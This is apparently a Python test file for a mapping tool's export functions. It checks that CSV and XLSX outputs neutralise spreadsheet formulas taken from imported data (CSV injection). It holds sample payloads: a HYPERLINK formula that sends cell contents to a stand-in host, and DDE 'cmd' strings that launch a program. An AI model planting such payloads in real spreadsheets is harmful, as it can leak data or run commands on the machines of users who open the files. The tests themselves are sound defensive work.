"""Spreadsheets the product writes never run a formula that came from an imported file.

Imported files are anyone's text; an export or a rejected-rows report opened in Excel must
show ``=HYPERLINK(...)`` as text, not follow it (OWASP "CSV injection").
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point

from gridmap.io import csv_bytes, export_layer, neutralise_formulas, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_incidents() -> gpd.GeoDataFrame:
    n = len(PAYLOADS)
    return gpd.GeoDataFrame(
        {
            "incident_id": [f"E{i}" for i in range(n)],
            "category": pd.Categorical(["=1+1"] * n),
            "description": PAYLOADS,
            "phone": ["-12.5"] * n,  # a number kept as text: a spreadsheet reads a number
            "delta": [-5] * n,  # a real numeric column stays a number
            '=HYPERLINK("http://example.invalid")': ["x"] * n,  # a column name is a cell
        },
        geometry=[Point(24.94, 60.17)] * n,
        crs="EPSG:4326",
    )


def first_chars_are_safe(values: list[str]) -> bool:
    return not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)


def test_csv_export_neutralises_formulas_in_text_only(tmp_path: Path) -> None:
    path = export_layer(hostile_incidents(), tmp_path / "incidents.csv", fmt="csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    written = pd.DataFrame(rows[1:], columns=rows[0])
    assert list(written["description"]) == ["'" + p for p in PAYLOADS]
    assert set(written["category"]) == {"'=1+1"}
    assert '\'=HYPERLINK("http://example.invalid")' in written.columns
    assert set(written["phone"]) == {"-12.5"}
    assert set(written["delta"]) == {"-5"}
    assert float(written["lon"][0]) == pytest.approx(24.94)


def test_rejects_report_bytes_are_neutralised() -> None:
    report = pd.DataFrame({"row": [2, 3], "description": PAYLOADS[:2], "lat": [-1.5, 2.0]})
    text = csv_bytes(report).decode("utf-8-sig")
    assert text.startswith("row,description,lat")
    lines = text.splitlines()
    assert lines[1].startswith("2,\"'=HYPERLINK(")
    assert lines[2] == "3,'=cmd|' /C calc'!A0,2.0"
    assert lines[1].endswith(",-1.5")


def test_neutralise_formulas_does_not_change_its_input() -> None:
    frame = pd.DataFrame({"a": ["=1", None, pd.NA, "ok"]})
    out = neutralise_formulas(frame)
    assert frame["a"].iloc[0] == "=1"
    assert out["a"].iloc[0] == "'=1"
    assert out["a"].isna().tolist() == [False, True, True, False]


def test_xlsx_writer_stores_user_text_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    table = pd.DataFrame(hostile_incidents().drop(columns="geometry"))
    table["when"] = pd.to_datetime(["2026-03-01 10:00"] * len(table))
    path = write_xlsx({"周报 [W10]: =1": table, "=other": table.head(1)}, tmp_path / "r.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["周报 _W10__ =1", "=other"]
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    header = [cell.value for cell in sheet[1]]
    assert header[-2] == '=HYPERLINK("http://example.invalid")'  # as text
    descriptions = [sheet.cell(row=r, column=3).value for r in range(2, len(table) + 2)]
    assert descriptions == [p.replace("\r", "\n") for p in PAYLOADS]  # XML keeps no CR
    assert sheet.cell(row=2, column=5).value == -5  # numbers stay numbers
    assert sheet.cell(row=2, column=7).is_date
    # No formula element anywhere in the workbook's XML.
    with zipfile.ZipFile(path) as archive:
        xml = "".join(
            archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml")
        )
    assert "<f>" not in xml
    assert "<f " not in xml


def test_first_chars_helper_would_catch_raw_payloads() -> None:
    # The checks above can fail: the payloads themselves start with formula characters.
    assert not first_chars_are_safe(PAYLOADS)
    assert first_chars_are_safe(list(neutralise_formulas(pd.DataFrame({"p": PAYLOADS}))["p"]))
